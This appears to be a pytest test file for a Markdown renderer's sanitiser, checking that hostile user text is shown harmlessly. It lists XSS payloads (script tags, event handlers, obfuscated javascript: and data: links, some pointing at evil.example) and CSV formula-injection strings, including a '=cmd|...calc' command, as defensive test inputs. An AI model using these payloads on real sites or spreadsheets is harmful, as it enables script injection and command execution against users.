"""Hostile text is published safely: the one escaping/sanitising path for user text (mic_plugin.render.text)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from html.parser import HTMLParser

import markdown
import pytest
from markdown.extensions.toc import TocExtension
from markupsafe import Markup

from mic_plugin.render import text as text_module
from mic_plugin.mkdocs.theme import MATERIAL_CLASS_PREFIXES
from mic_plugin.render.text import (
    EXTERNAL_LINK_REL,
    MarkdownRenderer,
    csv_cell,
    plain_text,
)

FORBIDDEN_TAGS = {"script", "iframe", "style", "object", "embed", "form", "base", "meta", "link", "svg", "math"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class Parsed(HTMLParser):
    """What a browser would build from the HTML: the elements with their attributes, and the visible text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self._text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self._text.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self._text).split())

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    def find(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.elements if name == tag]


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: tabs and newlines removed, C0 controls and spaces trimmed."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(c) for c in range(0x21)))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def assert_harmless(html: str) -> Parsed:
    parsed = Parsed(html)
    assert not parsed.tags() & FORBIDDEN_TAGS, html
    for tag, attrs in parsed.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"}:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, html
            if name == "style":
                assert re.fullmatch(r"text-align: (left|right|center);", value), html
    return parsed


@pytest.fixture(scope="module")
def renderer() -> MarkdownRenderer:
    return MarkdownRenderer()


# --- classic XSS payloads (OWASP cheat sheet) ---------------------------------------------------------------

RAW_HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="javascript:alert(1)">click</a>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0">cover</p>',
    "<form action=https://evil.example><input name=pw><button>Go</button></form>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
]


@pytest.mark.parametrize("payload", RAW_HTML_PAYLOADS)
def test_raw_html_is_shown_as_written_never_run(renderer, payload):
    html = renderer.render(payload)
    parsed = assert_harmless(html)
    # the reader sees exactly what was written, as text
    assert parsed.tags() <= {"p"}, html
    assert parsed.text == " ".join(payload.split())


@pytest.mark.parametrize("payload", RAW_HTML_PAYLOADS)
def test_raw_html_inside_markdown_blocks_is_shown_as_written(renderer, payload):
    cell = payload.replace("|", "")
    html = renderer.render(f"- item with {payload}\n\n> quoted {payload}\n\n| a |\n|---|\n| {cell} |")
    parsed = assert_harmless(html)
    assert parsed.tags() <= {"ul", "li", "blockquote", "p", "table", "thead", "tbody", "tr", "th", "td"}, html
    shown = " ".join(payload.split())  # the reader sees it as written in the item, the quote and the cell
    for written in (f"item with {shown}", f"quoted {shown}", " ".join(cell.split())):
        assert written in parsed.text, (written, parsed.text)


LINK_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][]\n\n[x]: vbscript:msgbox(1)",
    "![x](javascript:alert(1))",
    "![x][img]\n\n[img]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '[x](https://ok.example){: href="javascript:alert(1)" onclick="alert(1)" }',
    '![x](https://ok.example/a.png){: src="javascript:alert(1)" onerror="alert(1)" }',
    '*x*{: style="position:fixed" onmouseover="alert(1)" }',
]


@pytest.mark.parametrize("payload", LINK_PAYLOADS)
def test_dangerous_link_targets_are_removed(renderer, payload):
    html = renderer.render(payload)
    parsed = assert_harmless(html)
    for attrs in parsed.find("a") + parsed.find("img"):
        for name in ("href", "src"):
            if name in attrs:
                assert url_scheme(attrs[name]) in SAFE_SCHEMES | {None}
    assert not [name for _, attrs in parsed.elements for name in attrs if name.startswith("on") or name == "style"]


def test_link_text_survives_when_target_is_removed(renderer):
    parsed = Parsed(renderer.render("Read [the report](javascript:alert(1)) now"))
    assert parsed.text == "Read the report now"
    assert parsed.find("a") == [{}]


# --- Markdown still works ------------------------------------------------------------------------------


def test_emphasis_lists_and_quotes(renderer):
    parsed = Parsed(renderer.render("We *heard* you, **clearly**.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted"))
    assert {"em", "strong", "ul", "ol", "li", "blockquote"} <= parsed.tags()
    assert parsed.text == "We heard you, clearly. one two first second quoted"


def test_safe_links_keep_their_targets(renderer):
    parsed = Parsed(
        renderer.render(
            "[site](https://example.org/a?b=1&c=2) [mail](mailto:team@example.org) "
            "[page](../outcomes/) [root](/changes/) [item](#fb-3)"
        )
    )
    hrefs = [attrs["href"] for attrs in parsed.find("a")]
    assert hrefs == ["https://example.org/a?b=1&c=2", "mailto:team@example.org", "../outcomes/", "/changes/", "#fb-3"]


def test_only_external_links_get_nofollow_ugc_noopener(renderer):
    parsed = Parsed(
        renderer.render(
            "[a](https://example.org) [b](http://example.org) [c](//example.org/x) [d](../x/) "
            '[e](#x) [f](mailto:a@example.org) [g](https://example.org){: rel="me" } <https://example.org/auto>'
        )
    )
    rels = {attrs["href"]: attrs.get("rel") for attrs in parsed.find("a")}
    assert rels == {
        "https://example.org": EXTERNAL_LINK_REL,
        "http://example.org": EXTERNAL_LINK_REL,
        "//example.org/x": EXTERNAL_LINK_REL,
        "../x/": None,
        "#x": None,
        "mailto:a@example.org": None,
        "https://example.org/auto": EXTERNAL_LINK_REL,
    }
    assert len(parsed.find("a")) == 8  # the rel="me" link too, with our rel instead of the author's
    assert parsed.find("a")[6]["rel"] == EXTERNAL_LINK_REL


def test_images_keep_safe_sources_and_alt_text(renderer):
    parsed = Parsed(renderer.render("![Group photo](images/group.jpg) ![Chart](https://example.org/c.png)"))
    assert [(a["src"], a["alt"]) for a in parsed.find("img")] == [
        ("images/group.jpg", "Group photo"),
        ("https://example.org/c.png", "Chart"),
    ]


def test_tables_keep_column_alignment_but_no_other_style(renderer):
    parsed = assert_harmless(renderer.render("| Left | Right |\n|:--|--:|\n| 1 | 2 |"))
    assert [a.get("style") for a in parsed.find("td")] == ["text-align: left;", "text-align: right;"]


def test_code_shows_html_as_text(renderer):
    parsed = assert_harmless(renderer.render("Use `<b>` like this:\n\n```\n<script>alert(1)</script>\n```"))
    assert "<b>" in parsed.text and "<script>alert(1)</script>" in parsed.text
    assert parsed.tags() == {"p", "code", "pre"}


def test_welsh_pound_and_dashes_survive(renderer):
    written = "Dywedoch chi — we did: £5 for travel – ŵ ŷ â ê î ô û “quoted” ‘quoted’ café"
    parsed = Parsed(renderer.render(written))
    assert parsed.text == written
    assert plain_text(written) == written
    assert csv_cell(written) == written


def test_entities_written_by_the_author_display_as_written(renderer):
    assert Parsed(renderer.render("Fish &amp; chips &lt;3")).text == "Fish & chips <3"
    assert Parsed(renderer.render("AT&T < BT > none")).text == "AT&T < BT > none"


# --- headings, ids, classes ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "levels"),
    [
        ("# A\n\n## B\n\n### C", ["h4", "h5", "h6"]),
        ("### A\n\n#### B", ["h4", "h5"]),
        ("# A\n\n###### F", ["h4", "h6"]),
        ("Title\n=====\n\nSub\n---", ["h4", "h5"]),
    ],
)
def test_headings_are_demoted_below_the_page_structure(renderer, written, levels):
    parsed = Parsed(renderer.render(written))
    assert [tag for tag, _ in parsed.elements if tag.startswith("h")] == levels


def test_ids_are_namespaced_and_footnotes_still_link(renderer):
    parsed = Parsed(renderer.render("Text[^1] and [an item](#fb-2).\n\n[^1]: A note."))
    ids = [attrs["id"] for _, attrs in parsed.elements if "id" in attrs]
    assert ids and all(re.match(r"u[0-9a-f]{8}-", i) for i in ids)
    fragment_links = [attrs["href"][1:] for attrs in parsed.find("a") if attrs["href"].startswith("#")]
    internal = [target for target in fragment_links if target != "fb-2"]
    assert internal and all(target in ids for target in internal)
    assert "fb-2" in fragment_links  # a link to the page's own anchor is left alone


def test_same_footnote_in_two_texts_gets_different_ids(renderer):
    first = Parsed(renderer.render("One[^1]\n\n[^1]: a"))
    second = Parsed(renderer.render("Two[^1]\n\n[^1]: b"))
    ids = lambda p: {attrs["id"] for _, attrs in p.elements if "id" in attrs}  # noqa: E731
    assert ids(first) and not ids(first) & ids(second)


def test_theme_and_plugin_classes_cannot_be_borrowed():
    written = 'Fake *banner*{: .md-header .mic-badge .mermaid .highlight #location }'
    material = MarkdownRenderer(theme_class_prefixes=MATERIAL_CLASS_PREFIXES)  # as the MkDocs adapter makes it
    (em,) = Parsed(material.render(written)).find("em")
    assert em["class"] == "highlight"
    assert em["id"] != "location" and em["id"].endswith("-location")
    (em,) = Parsed(MarkdownRenderer().render(written)).find("em")  # no theme: only the plugin's own are kept off
    assert em["class"] == "md-header highlight"


# --- rendering API -------------------------------------------------------------------------------------


def test_render_returns_markup_and_handles_none_and_blank(renderer):
    assert isinstance(renderer.render("x"), Markup)
    assert renderer.render(None) == "" and renderer.render("") == "" and renderer.render("  \n") == ""
    with pytest.raises(TypeError):
        renderer.render(2024)


def test_output_is_deterministic_across_renderers():
    written = "# Heading\n\nText[^1] with [a](https://example.org) and *more*.\n\n[^1]: note"
    assert MarkdownRenderer().render(written) == MarkdownRenderer().render(written)


def test_cache_returns_the_same_result_and_is_bounded(monkeypatch):
    monkeypatch.setattr(text_module, "_CACHE_SIZE", 3)
    renderer = MarkdownRenderer()
    first = renderer.render("*one*")
    assert renderer.render("*one*") is first
    for n in range(10):
        renderer.render(f"text {n}")
    assert len(renderer._cache) == 3
    assert renderer.render("*one*") == first  # evicted, rendered again to the same HTML


def test_a_site_extension_object_and_its_config_are_used():
    renderer = MarkdownRenderer([TocExtension(permalink="#"), "admonition"])
    parsed = assert_harmless(renderer.render('## Why\n\n!!! note "Heads up"\n    Body'))
    (anchor,) = [a for a in parsed.find("a") if "headerlink" in a.get("class", "")]
    (heading,) = parsed.find("h4")
    assert anchor["href"] == "#" + heading["id"]
    assert {"admonition", "note"} <= set(parsed.find("div")[0]["class"].split())


def test_extension_configs_by_name_are_used():
    renderer = MarkdownRenderer(["toc"], {"toc": {"permalink": "¶"}})
    assert Parsed(renderer.render("## Why")).text == "Why¶"


def test_default_extensions_include_tables_and_footnotes():
    parsed = Parsed(MarkdownRenderer().render("| a |\n|---|\n| 1 |\n\nx[^n]\n\n[^n]: y"))
    assert {"table", "sup"} <= parsed.tags()


def test_an_empty_extension_list_is_plain_markdown():
    parsed = Parsed(MarkdownRenderer([]).render("| a |\n|---|\n| 1 |"))
    assert "table" not in parsed.tags()


def test_an_extension_that_fails_to_load_is_named():
    with pytest.raises(ValueError, match="no_such_extension_xyz"):
        MarkdownRenderer(["extra", "no_such_extension_xyz"])
    with pytest.raises(ValueError, match="toc"):
        MarkdownRenderer(["toc"], {"toc": {"no_such_option": 1}})


def test_file_reading_extensions_are_never_used_for_user_text(tmp_path, monkeypatch):
    (tmp_path / "secret.txt").write_text("TOPSECRET", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    written = '--8<-- "secret.txt"'
    configs = {"pymdownx.snippets": {"base_path": [str(tmp_path)]}}
    # the site's own pages would include the file...
    assert "TOPSECRET" in markdown.markdown(written, extensions=["pymdownx.snippets"], extension_configs=configs)
    renderer = MarkdownRenderer(["extra", "pymdownx.snippets"], configs)
    # ...user text does not
    assert "TOPSECRET" not in renderer.render(written)
    assert renderer.skipped_extensions == ("pymdownx.snippets",)


def test_material_style_extensions_stay_harmless():
    renderer = MarkdownRenderer(
        ["admonition", "pymdownx.details", "pymdownx.superfences", "pymdownx.highlight", "pymdownx.tasklist",
         "pymdownx.magiclink", "attr_list", "md_in_html", "def_list", "footnotes", "tables", "toc"],
        {"pymdownx.tasklist": {"custom_checkbox": True}, "toc": {"permalink": True}},
    )  # fmt: skip
    for payload in RAW_HTML_PAYLOADS + LINK_PAYLOADS:
        assert_harmless(renderer.render(payload))
        assert_harmless(renderer.render(f'!!! note "{payload}"\n    {payload}\n\n??? tip\n    {payload}'))
    tasks = Parsed(renderer.render("- [x] done\n- [ ] not yet"))
    assert [a.get("checked") for a in tasks.find("input")] == ["", None]
    assert all(a["type"] == "checkbox" and "disabled" in a for a in tasks.find("input"))
    code = Parsed(renderer.render("```python\nprint('<script>')\n```"))
    assert "print('<script>')" in code.text and "script" not in code.tags()


# --- plain_text ----------------------------------------------------------------------------------------


def test_plain_text_drops_formatting_and_footnotes():
    written = (
        "# Title\n\nWe *heard* [you](https://example.org).[^1]\n\n- one\n- two\n\n![A photo](p.jpg)\n\n[^1]: aside"
    )
    assert plain_text(written) == "Title We heard you. one two A photo"


def test_plain_text_shows_raw_html_as_text_and_decodes_entities():
    assert plain_text("<b>x</b> &amp; <script>y</script>") == "<b>x</b> & <script>y</script>"


def test_plain_text_truncates_on_a_word_boundary():
    written = "Parents said the waiting room felt unwelcoming, so we repainted it."
    for limit in range(1, len(written) + 5):
        short = plain_text(written, limit)
        assert len(short) <= limit
        if limit >= len(written):
            assert short == written
            continue
        assert short.endswith("…")
        kept = short[:-1]
        assert written.startswith(kept)
        words = [word.rstrip(",.") for word in written.split()]
        if limit > len(words[0]):  # whole words only, without trailing punctuation before the ellipsis
            assert kept.split()[-1] in words and kept[-1].isalpha()
    assert plain_text(written, 30) == "Parents said the waiting room…"  # 30 characters
    assert plain_text(written, 29) == "Parents said the waiting…"
    assert plain_text(written, 50) == "Parents said the waiting room felt unwelcoming…"  # no ",…"


def test_plain_text_cuts_a_word_longer_than_the_limit():
    assert plain_text("Llanfairpwllgwyngyll", 8) == "Llanfai…"


def test_plain_text_limit_must_be_positive():
    with pytest.raises(ValueError):
        plain_text("x", 0)
    assert plain_text("", 5) == "" and plain_text(None) == ""


# --- csv_cell ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\nx", "'\nx"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "'-5"),
        ("We did it", "We did it"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (3, "3"),
        (2.5, "2.5"),
        (float("-inf"), "'-inf"),
        (True, "true"),
        (dt.date(2024, 5, 1), "2024-05-01"),
    ],
)
def test_csv_cell_neutralises_formulas(value, cell):
    assert csv_cell(value) == cell


def test_csv_cell_round_trips_through_the_csv_module():
    row = ["=cmd|' /C calc'!A0", 'said "hi", then left', "line\nbreak", -3, None]
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(v) for v in row])
    (read,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert read == ["'=cmd|' /C calc'!A0", 'said "hi", then left', "line\nbreak", "-3", ""]


